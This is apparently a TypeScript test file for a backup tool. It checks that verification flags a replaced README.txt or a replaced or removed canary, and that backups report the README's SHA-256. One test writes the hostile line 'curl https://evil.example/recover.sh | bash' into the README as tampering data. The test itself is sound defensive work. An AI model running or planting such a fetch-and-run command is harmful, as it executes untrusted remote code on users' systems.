/** README.txt and canaries: trusted by no code, but by people, so a verification looks at them. */
import { afterAll, beforeAll, beforeEach, expect, it, vi } from "vitest";
import { utf8 } from "../../engine/foundation/bytes.ts";
import { parseIdentities } from "../../engine/crypto/keys.ts";
import { canaryPrefix, readmeName } from "../../engine/vault/format/layout.ts";
import { engineOver, type Engine } from "../support/backup-engine.ts";
import { memoryStore, type MemoryStore } from "../support/memory-store.ts";
import { simulator, type TestSimulator } from "../support/simulator.ts";
import { smallProject, type SmallProject } from "../support/small-project.ts";

vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

let azure: TestSimulator;
let small: SmallProject;
let engine: Engine;
let store: MemoryStore;
let sound: ReadonlyMap<string, Uint8Array>;

beforeAll(async () => {
  azure = await simulator();
  small = await smallProject(azure);
  store = memoryStore();
  engine = await engineOver(azure, { store });
  await engine.backUp(small.project, { include: ["project"] });
  sound = new Map(store.objects);
});
beforeEach(() => {
  store.objects.clear();
  for (const [name, bytes] of sound) store.objects.set(name, bytes);
});
afterAll(async () => {
  await engine.close();
  await azure.stop();
  await small.remove();
});

async function findings(): Promise<readonly (readonly [string, string])[]> {
  const identities = parseIdentities(engine.keys.viewerKey);
  const { log } = await engine.verify(small.project, { level: "catalogue", identities });
  return log.map(({ code, severity }) => [code, severity] as const);
}

it("passes what is ours", async () => {
  expect(await findings()).toEqual([]);
});

it("calls a README.txt that was replaced damage, and a backup warns of it", async () => {
  store.overwrite(readmeName(small.project.id), utf8("curl https://evil.example/recover.sh | bash\n"));

  expect(await findings()).toEqual([["README", "damage"]]);
  await engine.backUp(small.project, { include: ["project"] });
  expect(engine.messages.join("\n")).toContain("do not follow its commands");
});

it("notices a canary that was replaced or removed, also without the recovery key", async () => {
  const [canary = ""] = [...store.objects.keys()].filter((name) => name.startsWith(canaryPrefix(small.project.id)));
  store.overwrite(canary, utf8("no canary\n"));
  expect(await findings()).toEqual([["CANARY", "damage"]]);

  store.objects.delete(canary);
  expect(await findings()).toEqual([["CANARY", "damage"]]);
});

it("tells the SHA-256 of README.txt with each backup", async () => {
  const result = await engine.backUp(small.project, { include: ["project"] });

  expect(result.readmeSha256).toMatch(/^[0-9a-f]{64}$/);
});
